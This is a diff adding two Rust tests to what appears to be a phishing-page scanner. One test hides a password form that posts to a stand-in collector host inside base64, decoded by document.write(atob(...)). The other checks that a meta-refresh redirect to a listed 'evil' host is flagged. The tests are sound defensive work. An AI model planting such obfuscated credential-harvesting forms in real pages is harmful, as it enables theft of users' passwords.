@@ -268,3 +268,36 @@ fn bad_urls_are_input_errors_with_codes() {
         assert_eq!(engine.scan(&Page::url(url), &ScanOptions::default()).unwrap_err().code(), code, "{url}");
     }
 }
+
+#[test]
+fn a_password_form_the_script_decodes_and_writes_counts_as_one() {
+    use base64::Engine as _;
+    let form =
+        r#"<form action="https://collect.example.net/p.php"><input name=u><input type="password" name=p></form>"#;
+    let encoded = base64::engine::general_purpose::STANDARD.encode(form);
+    let html = format!("<html><body><script>document.write(atob('{encoded}'));</script></body></html>");
+    let engine = Engine::builtin();
+    let verdict = scan(&engine, &Page { url: "https://login-check.example/", html: Some(&html), ..Page::default() });
+    let finding = verdict.findings.iter().find(|f| f.key == Key::phishing_form_cross_domain).expect("form found");
+    assert!(finding.evidence.contains("decodes and writes"), "{}", finding.evidence);
+    // The same markup in plain script text, not written anywhere, is only text.
+    let inert = format!("<html><body><script>var unused = '{encoded}';</script></body></html>");
+    let verdict = scan(&engine, &Page { url: "https://login-check.example/", html: Some(&inert), ..Page::default() });
+    assert!(!keys(&verdict).contains(&"phishing_form_cross_domain"), "{:?}", keys(&verdict));
+}
+
+#[test]
+fn a_redirect_to_a_listed_host_is_a_reputation_hit() {
+    let listed: HashSet<String> = ["kit.evil.example".to_string()].into();
+    let engine =
+        Engine::builtin().with_reputation(Reputation { hosts: IndicatorSet::Exact(listed), ..Reputation::default() });
+    let html =
+        r#"<html><head><meta http-equiv="refresh" content="0; url=https://kit.evil.example/login"></head></html>"#;
+    let verdict = scan(&engine, &Page { url: "https://short.example/abc", html: Some(html), ..Page::default() });
+    let finding = verdict.findings.iter().find(|f| f.key == Key::reputation_hit).expect("listed redirect");
+    assert!(finding.evidence.contains("redirects to https://kit.evil.example/login"), "{}", finding.evidence);
+    assert_eq!(verdict.level, Level::Red);
+    let clean = r#"<html><head><meta http-equiv="refresh" content="0; url=https://ok.example/"></head></html>"#;
+    let verdict = scan(&engine, &Page { url: "https://short.example/abc", html: Some(clean), ..Page::default() });
+    assert!(!keys(&verdict).contains(&"reputation_hit"));
+}
